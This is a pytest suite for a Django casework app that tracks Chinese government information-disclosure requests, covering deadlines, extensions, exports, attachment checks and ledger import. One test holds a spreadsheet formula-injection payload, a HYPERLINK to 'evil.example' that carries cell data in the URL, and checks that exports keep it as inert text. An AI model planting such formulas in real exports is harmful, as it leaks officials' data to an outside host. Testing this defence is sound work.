"""Casework through the web layer: the engine's rules reach the clerk, the record is kept."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from gongkai.casework.errors import CaseworkError
from gongkai.web.cases import services
from gongkai.web.cases.models import DisclosureRequest


def _post_event(c, case, kind, **fields):
    case.refresh_from_db()
    data = {f"{kind}-version": case.version, f"{kind}-on": fields.pop("on")}
    data.update({f"{kind}-{k}": v for k, v in fields.items()})
    return c.post(reverse("cases:event", args=[case.pk, kind]), data, follow=True)


def test_clarification_extension_by_head_and_partial_disclosure_closes_into_table_three(world, client, settings):
    case = world.case_a
    client.force_login(world.clerk_a)
    _post_event(client, case, "request_clarification", on="2025-03-05", items="请写明征地项目名称", period_days=15)
    _post_event(client, case, "receive_clarification", on="2025-03-10")
    case.refresh_from_db()
    assert case.state == "in_progress" and case.due == dt.date(2025, 4, 8)  # 20 working days after 3-10 (清明 4-4)
    # a clerk cannot extend alone: 第三十三条 needs the head's approval
    assert client.post(reverse("cases:event", args=[case.pk, "extend"]), {}).status_code == 403
    client.post(reverse("cases:extension", args=[case.pk, "request"]),
                {"extreq-version": case.version, "extreq-on": "2025-03-20", "extreq-days": 10,
                 "extreq-reason": "需调取档案"})
    client.force_login(world.reviewer_a)
    case.refresh_from_db()
    client.post(reverse("cases:extension", args=[case.pk, "approve"]), {"version": case.version})
    case.refresh_from_db()
    assert case.due == dt.date(2025, 4, 22) and case.pending_extension is None
    client.force_login(world.clerk_a)
    settings.GONGKAI_TODAY = dt.date(2025, 4, 1)  # the reply is registered on the day it is given
    r = _post_event(client, case, "respond", on="2025-04-01", disposition="partially_granted",
                    info_given="补偿方案正文", info_withheld="被征收人身份证号码", reason="涉及个人隐私")
    case.refresh_from_db()
    assert case.state == "closed" and case.disposition == "partially_granted"
    body = r.content.decode()
    assert "批准人：reviewer_a" in body  # the approver is on the timeline
    letter = client.get(reverse("cases:letter", args=[case.pk, "reply", 4]))
    assert letter.status_code == 200 and letter.content[:2] == b"PK"
    from docx import Document
    text = "\n".join(p.text for p in Document(io.BytesIO(letter.content)).paragraphs)
    assert "第三十七条" in text and "被征收人身份证号码" in text
    ws = client.get(reverse("reports:workspace", args=[world.a.pk, 2025])).content.decode()
    assert 'id="gk-requests"' in ws


def test_refused_transition_shows_the_engines_chinese_reason(world, client):
    client.force_login(world.clerk_a)
    r = _post_event(client, world.case_a, "fee_paid", on="2025-03-05")
    assert "当前状态为「已收到（待受理）」" in r.content.decode()
    world.case_a.refresh_from_db()
    assert world.case_a.version == 1


def test_two_clerks_editing_at_once_the_second_save_is_refused(world):
    stale = DisclosureRequest.objects.get(pk=world.case_a.pk)
    services.apply_event(world.clerk_a, world.case_a, 1, "accept", dt.date(2025, 3, 4))
    with pytest.raises(services.EditConflict, match="已被他人修改"):
        services.edit(world.clerk_a, stale, stale.version, {"contact": "13000000000"})
    with pytest.raises(services.EditConflict):
        services.apply_event(world.clerk_a, stale, stale.version, "respond", dt.date(2025, 3, 5),
                             {"disposition": "granted"})
    fresh = DisclosureRequest.objects.get(pk=world.case_a.pk)
    assert fresh.contact == "13812345678" and fresh.state == "in_progress" and fresh.events.count() == 1


def test_intake_requires_what_the_engine_requires(world, client):
    client.force_login(world.clerk_a)
    r = client.post(reverse("cases:new"), {"requester_name": "", "applicant_type": "natural_person",
                                           "channel": "post", "signed_on": "2025-03-05"})
    assert r.status_code == 200 and "这个字段是必填项" in r.content.decode()
    r = client.post(reverse("cases:new"), {"requester_name": "王某", "applicant_type": "natural_person",
                                           "channel": "post", "signed_on": "2025-03-05"}, follow=True)
    assert "登记时缺少" in r.content.decode()  # 第二十九条 gaps listed as grounds for 补正


def test_attachments_limited_by_type_size_and_content(world, settings):
    with pytest.raises(CaseworkError, match="类型不允许"):
        services.add_attachment(world.clerk_a, world.case_a, SimpleUploadedFile("x.exe", b"MZ"))
    with pytest.raises(CaseworkError, match="内容与扩展名"):
        services.add_attachment(world.clerk_a, world.case_a, SimpleUploadedFile("x.pdf", b"MZ not a pdf"))
    settings.GONGKAI_ATTACHMENT_MAX_BYTES = 10
    with pytest.raises(CaseworkError, match="超过上限"):
        services.add_attachment(world.clerk_a, world.case_a, SimpleUploadedFile("x.pdf", b"%PDF-" + b"0" * 20))


def test_worklist_tabs_overdue_and_paused(world, client):
    services.apply_event(world.clerk_a, world.case_a, 1, "accept", dt.date(2025, 3, 3))
    client.force_login(world.clerk_a)
    url = reverse("cases:worklist")
    from django.test import override_settings
    with override_settings(GONGKAI_TODAY=dt.date(2025, 4, 15)):
        assert world.case_a.number in client.get(url + "?tab=overdue").content.decode()
    case = DisclosureRequest.objects.get(pk=world.case_a.pk)
    services.apply_event(world.clerk_a, case, case.version, "start_consultation", dt.date(2025, 3, 5),
                         {"party": "某公司"})
    assert world.case_a.number in client.get(url + "?tab=paused").content.decode()


def test_lists_and_exports_mask_id_and_phone_unless_granted(world, client):
    client.force_login(world.clerk_a)
    body = client.get(reverse("cases:export", args=["csv"]) + "?tab=all").content.decode()
    assert "138****5678" in body and "13812345678" not in body and "110101199001011234" not in body
    world.clerk_a.view_personal_data = True
    world.clerk_a.save()
    body = client.get(reverse("cases:export", args=["csv"]) + "?tab=all").content.decode()
    assert "13812345678" in body
    xlsx = client.get(reverse("cases:export", args=["xlsx"]) + "?tab=all")
    assert xlsx.content[:2] == b"PK"


def test_case_page_renders_the_deadline_calculation_trail_day_by_day(world, client):
    # case_a received Mon 2025-03-03: counting starts the next day, 20 working days (March 2025 has no
    # holiday) end on Mon 2025-03-31 (条例第三十三条).
    client.force_login(world.clerk_a)
    body = client.get(reverse("cases:detail", args=[world.case_a.pk])).content.decode()
    assert "期限计算过程" in body
    assert "第1个工作日：2025-03-04（星期二）" in body
    assert "第20个工作日：2025-03-31（星期一）" in body
    assert "{{" not in body and "{%" not in body


def test_reply_dated_after_today_is_refused_on_the_case_page(world, client):
    # TODAY is 2025-03-20 (the web clock); a reply dated 2030-01-01 has not happened.
    client.force_login(world.clerk_a)
    _post_event(client, world.case_a, "accept", on="2025-03-04")
    r = _post_event(client, world.case_a, "respond", on="2030-01-01", disposition="granted")
    assert "事件日期 2030-01-01 晚于今天 2025-03-20" in r.content.decode()
    world.case_a.refresh_from_db()
    assert world.case_a.state == "in_progress" and world.case_a.closed_on is None


def test_application_received_after_today_is_refused_at_intake(world, client):
    client.force_login(world.clerk_a)
    r = client.post(reverse("cases:new"), {"requester_name": "王某", "applicant_type": "natural_person",
                                           "channel": "post", "signed_on": "2025-03-21"})
    assert r.status_code == 200 and "收到申请之日 2025-03-21 晚于今天 2025-03-20" in r.content.decode()
    assert not DisclosureRequest.objects.filter(requester_name="王某").exists()


def test_extension_requested_for_a_future_date_is_refused(world):
    with pytest.raises(CaseworkError, match="晚于今天 2025-03-20"):
        services.request_extension(world.clerk_a, world.case_a, world.case_a.version, on=dt.date(2025, 4, 1),
                                   days=5, reason="需调取档案")


def test_exports_keep_an_applicants_formula_as_text(world, client):
    """CSV/formula injection: an applicant's "=HYPERLINK(…)" must not become a live formula for the clerk."""
    import csv as csvmod
    import io as iomod

    from openpyxl import load_workbook
    evil = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'
    DisclosureRequest.objects.filter(pk=world.case_a.pk).update(description=evil, requester_name="@SUM(1+1)")
    client.force_login(world.clerk_a)
    body = client.get(reverse("cases:export", args=["csv"]) + "?tab=all").content.decode("utf-8-sig")
    rows = list(csvmod.reader(iomod.StringIO(body)))
    row = next(r for r in rows if world.case_a.number in r)
    assert "'" + evil in row and "'@SUM(1+1)" in row
    wb = load_workbook(iomod.BytesIO(client.get(reverse("cases:export", args=["xlsx"]) + "?tab=all").content))
    cells = [c for r in wb.active.iter_rows() for c in r if c.value in (evil, "@SUM(1+1)")]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("year", ["-1", "10000", "99999999999", "abc"])
def test_a_bad_year_filter_is_a_message_not_a_server_error(world, client, year):
    client.force_login(world.clerk_a)
    r = client.get(reverse("cases:worklist") + f"?tab=all&year={year}")
    assert r.status_code == 200 and "收到年份" in r.content.decode()
    r = client.get(reverse("cases:export", args=["csv"]) + f"?tab=all&year={year}", follow=True)
    assert r.status_code == 200 and "筛选条件有误，未导出" in r.content.decode()


def _ledger_xlsx(rows):
    import io as iomod

    from django.core.files.uploadedfile import SimpleUploadedFile
    from openpyxl import Workbook
    wb = Workbook()
    wb.active.append(["登记编号", "申请人姓名或名称", "申请人类型", "证件号码", "联系电话", "申请内容", "申请方式",
                      "收到申请日期", "答复日期", "办理结果"])
    for r in rows:
        wb.active.append(r)
    buf = iomod.BytesIO()
    wb.save(buf)
    return SimpleUploadedFile("台账.xlsx", buf.getvalue())


def test_a_clerk_imports_the_offices_ledger_all_or_nothing(world, client):
    from gongkai.web.reports.views import _report
    client.force_login(world.clerk_a)
    assert "导入台账" in client.get(reverse("cases:worklist")).content.decode()
    good = [["2024-101", "张三", "自然人", "110101199003074512", "13800138000", "某项目批复", "网络", "2025-01-06",
             "2025-01-20", "予以公开"],
            ["2024-102", "某公司", "商业企业", "", "", "中标结果", "邮寄", "2025-03-03", "", ""],
            ["2024-103", "李四", "自然人", "", "", "预算", "当面", "2025-01-08", "2025-01-10", "撤回"]]
    bad = [list(r) for r in good] + [["2024-104", "王五", "外星人", "", "", "x", "网络", "2025-01-09", "", ""]]
    r = client.post(reverse("cases:import"), {"ledger": _ledger_xlsx(bad)})
    page = r.content.decode()
    assert r.status_code == 200 and "台账没有导入" in page and "第5行「申请人类型」" in page
    assert not DisclosureRequest.objects.filter(number__startswith="2024-1").exists()  # nothing half-way
    r = client.post(reverse("cases:import"), {"ledger": _ledger_xlsx(good)}, follow=True)
    assert "已从台账「台账.xlsx」导入 3 件申请" in r.content.decode()
    by = {c.number: c for c in DisclosureRequest.objects.filter(agency=world.a, number__startswith="2024-1")}
    assert (by["2024-101"].state, by["2024-101"].disposition) == ("closed", "granted")
    assert by["2024-102"].state == "in_progress" and by["2024-102"].due is not None  # the clock runs as for any case
    assert by["2024-103"].state == "withdrawn"
    # the imported cases open, continue, and count in table 三
    assert client.get(reverse("cases:detail", args=[by["2024-101"].pk])).status_code == 200
    rep = _report(world.a, 2025)
    assert rep.value("三", "granted", "natural_person") == 1 and rep.value("三", "received", "total") == 4  # + case_a
    # the same ledger again: every number is taken, nothing imported
    r = client.post(reverse("cases:import"), {"ledger": _ledger_xlsx(good)})
    assert "本机关已有编号为 2024-101 的申请" in r.content.decode()
    assert DisclosureRequest.objects.filter(agency=world.a).count() == 4


def test_ledger_import_is_for_case_roles_only(world, client):
    client.force_login(world.supervisor)
    assert client.get(reverse("cases:import")).status_code == 403


def test_the_ledger_event_is_not_offered_or_accepted_on_a_case_page(world, client):
    client.force_login(world.clerk_a)
    page = client.get(reverse("cases:detail", args=[world.case_a.pk])).content.decode()
    assert "台账导入办理结果" not in page and "event/import/" not in page
    r = client.post(reverse("cases:event", args=[world.case_a.pk, "import"]),
                    {"import-version": world.case_a.version, "import-on": "2025-03-10", "import-disposition": "granted"})
    assert r.status_code == 404 and DisclosureRequest.objects.get(pk=world.case_a.pk).state == world.case_a.state


def test_an_extension_is_decided_when_the_head_approves_it_and_not_after_the_deadline(world, client, settings):
    case = DisclosureRequest.objects.get(pk=world.case_a.pk)  # received 2025-03-03, due 2025-03-31
    services.apply_event(world.clerk_a, case, case.version, "accept", dt.date(2025, 3, 4))
    client.force_login(world.clerk_a)
    client.post(reverse("cases:extension", args=[case.pk, "request"]),
                {"extreq-version": DisclosureRequest.objects.get(pk=case.pk).version, "extreq-on": "2025-03-10",
                 "extreq-days": 10, "extreq-reason": "需要调取档案"})
    head = world.reviewer_a
    client.force_login(head)
    settings.GONGKAI_TODAY = dt.date(2025, 4, 2)  # the head approves after the period has run out
    r = client.post(reverse("cases:extension", args=[case.pk, "approve"]),
                    {"version": DisclosureRequest.objects.get(pk=case.pk).version}, follow=True)
    assert "不能在期满后延期" in r.content.decode()
    assert DisclosureRequest.objects.get(pk=case.pk).due == dt.date(2025, 3, 31)
    settings.GONGKAI_TODAY = dt.date(2025, 3, 20)
    client.post(reverse("cases:extension", args=[case.pk, "approve"]),
                {"version": DisclosureRequest.objects.get(pk=case.pk).version})
    ext = DisclosureRequest.objects.get(pk=case.pk).events.get(kind="extend")
    assert ext.on == dt.date(2025, 3, 20) and ext.data["requested_on"] == "2025-03-10"


def test_intake_warns_of_a_wrong_id_check_digit_and_refuses_a_date_before_the_regulation(world, client):
    client.force_login(world.clerk_a)
    base = {"requester_name": "王某", "applicant_type": "natural_person", "channel": "post"}
    r = client.post(reverse("cases:new"), {**base, "signed_on": "2025-03-05",
                                           "id_document": "居民身份证 110101199003074512"}, follow=True)
    page = r.content.decode()
    assert "已登记申请" in page and "身份证号码 110101199003074512 的校验位应为 4" in page  # registered, and said
    r = client.post(reverse("cases:new"), {**base, "signed_on": "2025-03-05",
                                           "id_document": "居民身份证 110101199003074514"}, follow=True)
    assert "校验位" not in r.content.decode()
    r = client.post(reverse("cases:new"), {**base, "signed_on": "1900-01-01"})
    assert "早于《政府信息公开条例》施行之日 2008-05-01" in r.content.decode()


def test_an_event_without_its_version_field_says_the_page_is_stale(world, client):
    client.force_login(world.clerk_a)
    r = client.post(reverse("cases:event", args=[world.case_a.pk, "accept"]), {"accept-on": "2025-03-04"}, follow=True)
    page = r.content.decode()
    assert "表单缺少有效的版本号" in page and "None" not in page.split('class="messages"')[1][:300]


def test_intake_receipt_date_follows_the_channel_under_article_31(world, client):
    """第三十一条: the form asks the channel's date — 邮寄 the day signed for, 当面 the day submitted."""
    client.force_login(world.clerk_a)
    base = {"requester_name": "王某", "applicant_type": "natural_person"}
    r = client.post(reverse("cases:new"), {**base, "channel": "post", "submitted_on": "2025-03-03",
                                           "signed_on": "2025-03-05", "confirmed_on": "2025-03-06"}, follow=True)
    case = DisclosureRequest.objects.filter(requester_name="王某").latest("id")
    assert case.received_on == dt.date(2025, 3, 5) and "已登记申请" in r.content.decode()
    r = client.post(reverse("cases:new"), {**base, "channel": "post", "submitted_on": "2025-03-03"})
    assert r.status_code == 200 and "邮寄提交的申请，需要签收日期才能确定收到申请之日" in r.content.decode()
    client.post(reverse("cases:new"), {**base, "requester_name": "赵某", "channel": "in_person",
                                       "submitted_on": "2025-03-03", "signed_on": "2025-03-05"})
    assert DisclosureRequest.objects.get(requester_name="赵某").received_on == dt.date(2025, 3, 3)


def test_append_row_keeps_formula_text_as_text_on_normal_and_write_only_sheets():
    import io as iomod

    from openpyxl import Workbook, load_workbook

    from gongkai.web.spreadsheet import append_row, xlsx_bytes
    evil = ["=1+1", "@SUM(A1)", "plain", 3, dt.date(2025, 1, 2), None, "=2"]
    wb = Workbook()
    for _ in range(3):
        append_row(wb.active, evil)
    out = iomod.BytesIO()
    wb.save(out)
    for data in (out.getvalue(), xlsx_bytes("表", ["a"] * 7, [evil, evil])):
        rows = list(load_workbook(iomod.BytesIO(data)).active.iter_rows())
        assert len(rows) == 3
        for r in rows[-2:]:
            assert [c.value for c in r][:4] == ["=1+1", "@SUM(A1)", "plain", 3]
            assert r[0].data_type == "s" and r[6].data_type == "s" and r[4].value.date() == dt.date(2025, 1, 2)


def test_reply_outcome_choice_is_grouped_as_table_three_and_closed_rows_name_the_group(world, client):
    import re

    from gongkai.format.format2021 import G_NOT_PROCESSED, G_OTHER, G_UNAVAILABLE, G_WITHHELD
    services.apply_event(world.clerk_a, world.case_a, 1, "accept", dt.date(2025, 3, 3))
    client.force_login(world.clerk_a)
    page = client.get(reverse("cases:detail", args=[world.case_a.pk])).content.decode()
    select = re.search(r'<select name="respond-disposition".*?</select>', page, re.S).group(0)
    groups = re.findall(r'<optgroup label="([^"]+)">', select)
    assert groups == [G_WITHHELD, G_UNAVAILABLE, G_NOT_PROCESSED, G_OTHER]  # the format's own labels, in order
    # （一）（二） are rows of their own, before the groups; each "1." sits under its heading
    head = select.split("<optgroup")[0]
    assert 'value="granted"' in head and "（一）予以公开" in head and 'value="partially_granted"' in head
    withheld = select.split(f'label="{G_WITHHELD}"')[1].split("</optgroup>")[0]
    assert 'value="withheld_state_secret"' in withheld and "1.属于国家秘密" in withheld
    other = select.split(f'label="{G_OTHER}"')[1].split("</optgroup>")[0]
    # the lapse rows (（六）1、2) are reached by the lapse events only, never chosen in a reply
    assert 'value="other_other"' in other and "other_correction_not_supplied" not in select \
        and "other_fee_not_paid" not in select
    case = DisclosureRequest.objects.get(pk=world.case_a.pk)
    services.apply_event(world.clerk_a, case, case.version, "respond", dt.date(2025, 3, 20),
                         {"disposition": "withheld_state_secret", "reason": "经定密属于国家秘密"})
    rows = client.get(reverse("cases:worklist") + "?tab=all").content.decode()
    assert "不予公开：属于国家秘密" in rows
    csv = client.get(reverse("cases:export", args=["csv"]) + "?tab=all").content.decode()
    assert "不予公开：属于国家秘密" in csv
    detail = client.get(reverse("cases:detail", args=[case.pk])).content.decode()
    assert "办理结果：不予公开：属于国家秘密" in detail


def test_handler_is_chosen_from_the_agencys_case_users_in_assign_and_registration(world, client):
    import re

    from gongkai.web.accounts.models import User
    User.objects.create(username="gone_a", full_name="离职者", role="clerk", agency=world.a, is_active=False)
    client.force_login(world.clerk_a)
    page = client.get(reverse("cases:detail", args=[world.case_a.pk])).content.decode()
    select = re.search(r'<select name="assign-handler".*?</select>', page, re.S).group(0)
    values = re.findall(r'<option value="([^"]*)"', select)
    # 甲镇's 经办人/审核人/签发人 by display name; not 乙局's clerk, not the supervisor, not an inactive account
    assert sorted(values) == ["clerk_a", "reviewer_a", "signer_a"]
    assert "审核人" in select and "clerk_b" not in select and "离职者" not in select
    r = _post_event(client, world.case_a, "assign", on="2025-03-04", handler="reviewer_a")
    case = DisclosureRequest.objects.get(pk=world.case_a.pk)
    assert case.handler == "reviewer_a"
    ev = case.events.order_by("-seq").first()
    assert ev.kind == "assign" and ev.data == {"handler": "reviewer_a"}  # the engine event is unchanged
    # a name that is not one of the agency's users is refused, nothing recorded
    n = case.events.count()
    r = _post_event(client, world.case_a, "assign", on="2025-03-05", handler="clerk_b")
    assert "未保存" in r.content.decode() and DisclosureRequest.objects.get(pk=case.pk).events.count() == n
    # registration offers the same list; left empty, the registering user handles it
    new = client.get(reverse("cases:new")).content.decode()
    reg = re.search(r'<select name="handler".*?</select>', new, re.S).group(0)
    assert "signer_a" in reg and "clerk_b" not in reg
    base = {"requester_name": "王某", "applicant_type": "natural_person", "channel": "in_person",
            "submitted_on": "2025-03-06", "description": "某项目批复", "form": "纸质"}
    client.post(reverse("cases:new"), {**base, "handler": "signer_a"})
    assert DisclosureRequest.objects.get(requester_name="王某").handler == "signer_a"
    client.post(reverse("cases:new"), {**base, "requester_name": "赵某"})
    assert DisclosureRequest.objects.get(requester_name="赵某").handler == "clerk_a"
    r = client.post(reverse("cases:new"), {**base, "requester_name": "钱某", "handler": "clerk_b"})
    assert r.status_code == 200 and not DisclosureRequest.objects.filter(requester_name="钱某").exists()


def test_case_page_offers_only_the_steps_the_statute_still_allows(world, client, settings):
    case = world.case_a  # 当面提交, received 2025-03-03
    client.force_login(world.reviewer_a)

    def actions():
        page = client.get(reverse("cases:detail", args=[case.pk])).content.decode()
        return page

    settings.GONGKAI_TODAY = dt.date(2025, 3, 6)
    page = actions()
    assert 'id="action-confirm_receipt"' not in page  # 当面提交: the day submitted, nothing to confirm (第三十一条)
    assert 'id="action-receive_clarification"' not in page and 'id="action-request_clarification"' in page
    assert 'value="granted"' in page and 'value="unavailable_unclear_after_correction"' not in page  # no 补正 yet
    _post_event(client, case, "accept", on="2025-03-03")
    _post_event(client, case, "request_clarification", on="2025-03-05", items="请写明征地项目名称", period_days=15)
    page = actions()
    assert 'id="action-receive_clarification"' in page
    assert 'id="action-clarification_lapsed"' not in page  # the 补正 period has not run out
    settings.GONGKAI_TODAY = dt.date(2025, 4, 1)
    assert 'id="action-clarification_lapsed"' in actions()
    _post_event(client, case, "receive_clarification", on="2025-03-10")
    page = actions()
    assert 'id="action-request_clarification"' not in page  # 第三十条: told once only
    assert 'id="action-receive_clarification"' not in page  # only while awaiting it
    assert 'id="action-extend"' in page and 'id="action-delay_reply"' in page
    assert 'value="unavailable_unclear_after_correction"' in page  # a 补正 was received: 三（四）3 may be the answer
    case.refresh_from_db()
    assert case.due == dt.date(2025, 4, 8)
    # past the reply period, with a step recorded after it: no date is left on which 延期 or 延迟答复 is lawful
    settings.GONGKAI_TODAY = dt.date(2025, 4, 15)
    page = actions()
    # past the reply period with nothing recorded since: 延期 is no longer a normal offer (issue 10 item 9)
    assert 'id="action-extend"' not in page and 'id="action-delay_reply"' not in page
    _post_event(client, case, "assign", on="2025-04-15", handler="clerk_a")
    page = actions()
    assert 'id="action-extend"' not in page and 'id="action-delay_reply"' not in page
    assert 'id="action-respond"' in page  # the reply is still owed
    client.force_login(world.clerk_a)
    assert 'id="action-extension_request"' not in actions()


def test_the_intake_form_sent_twice_registers_one_case_and_shows_it(world, client):
    """Back and resend (or a double click) of 登记申请 must not count one application twice in table 三."""
    client.force_login(world.clerk_a)
    page = client.get(reverse("cases:new")).content.decode()
    token = page.split('name="submission" value="', 1)[1].split('"', 1)[0]
    assert len(token) >= 12
    data = {"requester_name": "重复某", "applicant_type": "natural_person", "channel": "post",
            "signed_on": "2025-03-05", "submission": token}
    first = client.post(reverse("cases:new"), data)
    again = client.post(reverse("cases:new"), data, follow=True)
    cases = DisclosureRequest.objects.filter(requester_name="重复某")
    assert cases.count() == 1
    assert first.url == reverse("cases:detail", args=[cases.get().pk])
    assert again.redirect_chain[-1][0] == first.url
    assert f"这份申请已登记为 {cases.get().number}，未重复登记" in again.content.decode()
    # a new rendering of the form is a new application
    token2 = client.get(reverse("cases:new")).content.decode().split('name="submission" value="', 1)[1][:16]
    client.post(reverse("cases:new"), {**data, "submission": token2})
    assert DisclosureRequest.objects.filter(requester_name="重复某").count() == 2


def test_the_case_timeline_names_the_told_date_in_words_not_internal_keys(world, client, settings):
    settings.GONGKAI_TODAY = dt.date(2025, 3, 28)
    client.force_login(world.clerk_a)
    r = _post_event(client, world.case_a, "request_clarification", on="2025-03-05",
                    items="身份证明（第二十九条第二款第（一）项）", period_days=15)
    timeline = r.content.decode().split('id="timeline"', 1)[1].split("</table>", 1)[0]
    assert "told_due" not in timeline and "told_provisional" not in timeline
    assert "文书告知的日期：2025-" in timeline
    from gongkai.web.cases.views import _describe
    assert _describe({"told_due": dt.date(2026, 12, 24), "told_provisional": True}) \
        == ["文书告知的日期：2026-12-24（暂按法定节假日推算）"]
    assert _describe({"told_due": dt.date(2026, 12, 24), "told_provisional": False}) == ["文书告知的日期：2026-12-24"]
